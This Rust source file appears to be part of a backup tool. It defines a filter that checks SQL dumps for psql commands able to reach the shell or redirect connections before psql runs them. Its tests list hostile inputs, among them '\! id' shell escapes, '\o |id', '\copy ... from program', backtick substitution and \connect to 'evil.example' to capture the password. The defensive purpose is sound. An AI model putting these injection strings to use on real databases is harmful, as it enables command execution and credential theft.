//! Keeps `psql` from running programs: a dump of a whole cluster is SQL that psql reads, and psql has commands of its
//! own that reach the shell. Those that dumps need pass; any other backslash outside of quoted text is refused.

use std::io::{self, BufRead, BufReader, Read};

use holdfast_core::run::FailureCode;

use crate::error::EngineError;

/// What `pg_dumpall` writes.
const ALLOWED: &[&str] = &["\\restrict", "\\unrestrict"];
/// Encodings in which a byte of a letter can look like a quote or a backslash.
const AMBIGUOUS: &[&str] =
    &["SJIS", "SHIFT", "BIG5", "GBK", "GB18030", "UHC", "JOHAB", "MSKANJI", "WIN949", "WIN950", "WIN932", "WIN936"];
/// psql takes what follows for rows only if the server agreed to take them; if not, it must stop rather than read them
/// as commands.
const BEFORE_ROWS: &[u8] = b"\\set ON_ERROR_STOP on\n";
const AFTER_ROWS: &[u8] = b"\\set ON_ERROR_STOP off\n";
/// A row of a table is one line; it may hold a value of a gigabyte, which is passed on in pieces.
const PIECE_BYTES: usize = 256 * 1024;

/// A reader that passes SQL on, line by line, and fails at the first command that is none of ours.
pub(super) struct PsqlGuard<R> {
    lines: BufReader<R>,
    ready: Vec<u8>,
    given: usize,
    state: State,
    /// The next piece begins a line.
    at_line_start: bool,
    /// The statement so far, as far as it matters for telling that rows follow.
    statement: Vec<u8>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum State {
    Plain,
    Quoted,
    Identifier,
    Dollar(Vec<u8>),
    Comment(u32),
    /// Rows of COPY, up to `\.`.
    Rows,
}

impl<R: Read> PsqlGuard<R> {
    pub(super) fn new(reader: R) -> Self {
        Self {
            lines: BufReader::with_capacity(PIECE_BYTES, reader),
            ready: Vec::new(),
            given: 0,
            state: State::Plain,
            at_line_start: true,
            statement: Vec::new(),
        }
    }

    fn next_piece(&mut self) -> io::Result<()> {
        self.ready.clear();
        self.given = 0;
        let read = (&mut self.lines).take(PIECE_BYTES as u64).read_until(b'\n', &mut self.ready)?;
        if read == 0 {
            return Ok(());
        }
        let (starts, ends) = (self.at_line_start, self.ready.ends_with(b"\n"));
        self.at_line_start = ends;
        if self.state == State::Rows {
            if starts && self.ready.trim_ascii_end() == b"\\." {
                self.state = State::Plain;
                self.ready.extend_from_slice(AFTER_ROWS);
            }
            return Ok(());
        }
        let line = std::mem::take(&mut self.ready);
        self.look(&line, starts, ends)?;
        if self.state == State::Rows {
            if !line.starts_with(b"COPY ") || !line.trim_ascii_end().ends_with(b";") {
                return refuse(b"rows of a statement over several lines");
            }
            self.ready.extend_from_slice(BEFORE_ROWS);
        }
        self.ready.extend_from_slice(&line);
        Ok(())
    }

    /// Follows quotes and comments through one line of SQL.
    fn look(&mut self, line: &[u8], starts: bool, ends: bool) -> io::Result<()> {
        // Outside of quoted text no line of a dump is this long; inside, pieces are read on as they come.
        if self.state == State::Plain && !ends && line.len() >= PIECE_BYTES {
            return refuse(b"a line that is too long");
        }
        if self.state == State::Plain && starts && line.starts_with(b"\\") {
            let word = line.split(|byte| byte.is_ascii_whitespace()).next().unwrap_or_default();
            let rest = line.get(word.len()..).unwrap_or_default().trim_ascii();
            let is_plain =
                ALLOWED.iter().any(|allowed| allowed.as_bytes() == word) && rest.iter().all(u8::is_ascii_alphanumeric);
            if is_plain || (word == b"\\connect" && names_a_database(rest)) {
                return Ok(());
            }
            return refuse(word);
        }
        if self.state == State::Plain && starts {
            let upper = String::from_utf8_lossy(line).to_uppercase();
            let is_encoding = upper.contains("CLIENT_ENCODING") && AMBIGUOUS.iter().any(|name| upper.contains(name));
            if is_encoding || (upper.contains("STANDARD_CONFORMING_STRINGS") && !upper.trim_end().ends_with("= ON;")) {
                return refuse(b"a setting that changes what quotes mean");
            }
        }
        let mut at = 0;
        while at < line.len() {
            let (byte, rest) = (line[at], &line[at..]);
            at += 1;
            match &mut self.state {
                State::Plain => match byte {
                    b'-' if rest.starts_with(b"--") => break,
                    b'/' if rest.starts_with(b"/*") => {
                        self.state = State::Comment(1);
                        at += 1;
                    }
                    b'\'' => self.state = State::Quoted,
                    b'"' => self.state = State::Identifier,
                    // Within a word it is a letter like others.
                    b'$' if !line[..at - 1].last().is_some_and(is_word) => {
                        if let Some(tag) = dollar_tag(rest) {
                            at += tag.len() - 1;
                            self.state = State::Dollar(tag.to_vec());
                        }
                    }
                    b'\\' => return refuse(b"\\ within a statement"),
                    b';' => {
                        let rows = starts_rows(&self.statement);
                        self.statement.clear();
                        if rows {
                            self.state = State::Rows;
                            return Ok(());
                        }
                    }
                    _ if self.statement.len() < PIECE_BYTES => self.statement.push(byte),
                    _ => {}
                },
                State::Quoted => match byte {
                    // Whether this ends the text depends on what kind it is, so it does not pass. Dumps double quotes.
                    b'\\' if rest.get(1) == Some(&b'\'') => return refuse(b"\\'"),
                    b'\'' if rest.get(1) == Some(&b'\'') => at += 1,
                    b'\'' => self.state = State::Plain,
                    _ => {}
                },
                State::Identifier => {
                    if byte == b'"' {
                        self.state = State::Plain;
                    }
                }
                State::Dollar(tag) => {
                    if rest.starts_with(tag) {
                        at += tag.len() - 1;
                        self.state = State::Plain;
                    }
                }
                State::Comment(depth) => {
                    if rest.starts_with(b"/*") {
                        *depth += 1;
                        at += 1;
                    } else if rest.starts_with(b"*/") {
                        *depth -= 1;
                        at += 1;
                        if *depth == 0 {
                            self.state = State::Plain;
                        }
                    }
                }
                State::Rows => return Ok(()),
            }
        }
        Ok(())
    }
}

/// What names and numbers are made of.
fn is_word(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$') || !byte.is_ascii()
}

/// One database by its name, and nothing else: a host in there would be given our password.
fn names_a_database(words: &[u8]) -> bool {
    let words = words.strip_prefix(b"-reuse-previous=on ").map_or(words, <[u8]>::trim_ascii);
    if let Some(inner) = words.strip_prefix(b"\"dbname='").and_then(|rest| rest.strip_suffix(b"'\"")) {
        // Quotes in a name are escaped; one that is not would end it.
        let mut is_escaped = false;
        return inner.iter().all(|byte| {
            let is_end = !is_escaped && matches!(byte, b'\'' | b'"' | b'`');
            is_escaped = *byte == b'\\' && !is_escaped;
            !is_end
        });
    }
    let name = words.strip_prefix(b"\"").and_then(|rest| rest.strip_suffix(b"\"")).unwrap_or(words);
    let is_quoted = name.len() < words.len();
    let is_odd =
        |byte: &u8| matches!(byte, b'=' | b'`' | b'\'' | b'"' | b'\\' | b':' | b'/') || (!is_quoted && *byte == b' ');
    !name.is_empty() && !name.iter().any(is_odd)
}

/// `$tag$` or `$$`.
fn dollar_tag(text: &[u8]) -> Option<&[u8]> {
    let end = text.iter().skip(1).position(|byte| *byte == b'$')? + 1;
    let name = &text[1..end];
    let is_name = name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_' || !byte.is_ascii());
    (is_name && !name.first().is_some_and(u8::is_ascii_digit)).then(|| &text[..=end])
}

fn starts_rows(statement: &[u8]) -> bool {
    let text = String::from_utf8_lossy(statement).to_uppercase();
    let words: Vec<&str> = text.split_whitespace().collect();
    words.first() == Some(&"COPY") && words.windows(2).any(|pair| pair == ["FROM", "STDIN"])
}

fn refuse(what: &[u8]) -> io::Result<()> {
    let shown = holdfast_core::backup::name_text(what);
    let message = format!("The dump holds a command that psql would run: {shown}. Look at it by hand.");
    Err(EngineError::new(FailureCode::HostileArchive, message).into())
}

impl<R: Read> Read for PsqlGuard<R> {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        if self.given == self.ready.len() {
            self.next_piece()?;
        }
        let length = buffer.len().min(self.ready.len() - self.given);
        buffer[..length].copy_from_slice(&self.ready[self.given..self.given + length]);
        self.given += length;
        Ok(length)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pass(text: &str) -> io::Result<String> {
        let mut out = String::new();
        PsqlGuard::new(text.as_bytes()).read_to_string(&mut out).map(|_| out)
    }

    #[test]
    fn what_a_dump_holds_passes() {
        let dump = "-- it's a comment \\! id\n\\connect \"my db\"\n\\connect -reuse-previous=on \"dbname='a b'\"\n\
            SET standard_conforming_strings = on;\nSET x = 'a\\b';\nSELECT 'it''s', a$b FROM c;\n\
            CREATE FUNCTION f() RETURNS text AS $_$ select '\\! id' $_$ LANGUAGE sql;\n\
            COPY public.t (a, b) FROM stdin;\n1\t\\N\n\\\\!\tid'\n\\.\n/* \\! /* id */ \\! */\nSELECT 1;\n";
        let passed = pass(dump).unwrap();
        assert_eq!(passed.replace("\\set ON_ERROR_STOP on\n", "").replace("\\set ON_ERROR_STOP off\n", ""), dump);
        assert_eq!(passed.matches("ON_ERROR_STOP on\nCOPY public.t").count(), 1);
    }

    #[test]
    fn commands_that_reach_the_shell_are_refused() {
        let hostile = [
            "\\! id\n",
            "SELECT 1 \\! id\n",
            "\\connect a \\! id\n",
            "\\connect `id`\n",
            "COPY t FROM stdin;\n1\n\\.\n\\! id\n",
            "SELECT 'a';\\! id\n",
            "SELECT $a$ x $a$ \\! id\n",
            "SELECT $1 \\! id\n",
            "SELECT 'x\\'; \\! id\n",
            "\\o |id\n",
            "\\copy t from program 'id'\n",
            "\\connect postgres app evil.example 5432\n",
            "\\connect \"host=evil.example dbname=x\"\n",
            "\\connect -reuse-previous=on \"dbname='x' host='evil'\"\n",
            "SELECT 1 AS a$b$ \\! id\n",
            "SELECT x_e'a\\' \\! id\n",
            "SET standard_conforming_strings=off; SELECT 'a\\'' \\! id\n",
            "SELECT E'a'\n'b\\'' \\! id\n",
            "COPY missing\nFROM stdin;\n\\! id\n\\.\n",
        ];
        for text in hostile {
            assert!(pass(text).is_err(), "{text}");
        }
    }
}
